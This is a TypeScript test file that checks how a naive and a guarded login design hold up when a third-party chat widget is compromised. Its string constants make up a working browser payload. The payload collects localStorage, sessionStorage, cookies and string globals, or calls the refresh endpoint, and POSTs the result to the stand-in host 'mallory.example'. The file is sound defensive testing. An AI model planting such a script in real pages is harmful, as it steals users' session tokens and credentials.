import { randomBytes } from 'node:crypto'
import type { Page } from 'playwright-core'
import request from 'supertest'
import { itInChromium, openPage } from '../chromium.ts'
import { serve } from '../serve.ts'
import { createUsers, PASSWORD } from '../users.ts'
import { createApp as createGuarded } from './guarded.ts'
import { createApp as createNaive } from './naive.ts'

// Both pages load a chat widget from elsewhere. One day it is not the widget that it was.

const secret = randomBytes(32).toString('base64url')
const credentials = { name: 'alice', password: PASSWORD }

/** With the next click, everything that a script finds in the page goes home to Mallory. */
const READS_EVERYTHING = `
  addEventListener('click', () => send({
    ...localStorage,
    ...sessionStorage,
    cookie: document.cookie,
    globals: Object.values(window).filter((value) => typeof value === 'string'),
  }))`

/** Another one does what the page does when it is loaded. */
const REFRESHES = `
  addEventListener('click', async () => {
    const headers = { 'X-Gatewarden': '1' }
    send(await (await fetch('/auth/refresh', { method: 'POST', headers })).json())
  })`

const SEND = `
  const send = (loot) =>
    fetch('https://mallory.example/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })`

/** Alice logs in, comes back, and clicks somewhere. What does Mallory get? */
async function visit(page: Page, port: number, widget: string): Promise<string> {
  await page.route('https://widgets.example/chat.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `{${SEND}${widget}}` }),
  )
  await page.route('https://mallory.example/loot', (route) => route.fulfill({ status: 204 }))

  await page.goto(`http://localhost:${port}/`)
  await page.fill('[name=name]', credentials.name)
  await page.fill('[name=password]', credentials.password)
  await page.click('button')
  await page.waitForSelector('text=Welcome, alice')
  await page.reload()
  await page.waitForSelector('text=Welcome, alice')

  const loot = page.waitForRequest('https://mallory.example/loot')
  await page.click('h1')
  return (await loot).postData() ?? ''
}

const me = (app: ReturnType<typeof createNaive>, token: string) =>
  request(app).get('/me').auth(token, { type: 'bearer' })

const tokenIn = (loot: string) => /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(loot)?.[0]

describe('naive', () => {
  itInChromium(
    'hands the token to any script in the page, and who has it is alice for a week',
    async () => {
      const app = createNaive(secret, createUsers())
      const loot = await visit(await openPage(), await serve(app), READS_EVERYTHING)
      await me(app, tokenIn(loot) ?? '').expect(200, { name: 'alice' })
    },
    60_000,
  )

  it('has nothing else that could survive a reload', async () => {
    const { headers } = await request(createNaive(secret, createUsers()))
      .post('/login')
      .send(credentials)
      .expect(200)
    expect(headers).not.toHaveProperty('set-cookie')
  })
})

describe('guarded', () => {
  it('puts what survives a reload where no script can read it', async () => {
    const { headers, body } = await request(createGuarded(secret, createUsers()))
      .post('/login')
      .set('X-Gatewarden', '1')
      .send(credentials)
      .expect(200)
    expect(headers['set-cookie']).toEqual([
      expect.stringMatching(/^__Host-gw_rt=.+; Secure; HttpOnly; SameSite=Strict$/),
    ])
    expect(Object.keys(body as object)).toEqual(['access_token', 'token_type', 'expires_in'])
  })

  itInChromium(
    'leaves a script nothing to find, and alice logged in when she comes back',
    async () => {
      const page = await openPage()
      const loot = await visit(
        page,
        await serve(createGuarded(secret, createUsers())),
        READS_EVERYTHING,
      )
      const [cookie] = await page.context().cookies()
      expect(cookie).toMatchObject({ name: '__Host-gw_rt', httpOnly: true })
      expect(JSON.parse(loot)).toMatchObject({ cookie: '' })
      expect(loot).not.toContain(cookie!.value)
      expect(tokenIn(loot)).toBeUndefined()
    },
    60_000,
  )

  // What no storage prevents: a script in the page can do what the page can do, while it is open.
  itInChromium(
    'gives a script that asks for one a token of ten minutes, which the logout ends',
    async () => {
      const app = createGuarded(secret, createUsers())
      const page = await openPage()
      const loot = await visit(page, await serve(app), REFRESHES)
      const { access_token: token, expires_in: seconds } = JSON.parse(loot) as {
        access_token: string
        expires_in: number
      }
      expect(seconds).toBeLessThanOrEqual(600)
      await me(app, token).expect(200)

      await page.evaluate(() =>
        fetch('/auth/logout', { method: 'POST', headers: { 'X-Gatewarden': '1' } }),
      )
      await me(app, token)
        .expect(401)
        .expect('WWW-Authenticate', /error="invalid_token"/)
    },
    60_000,
  )
})
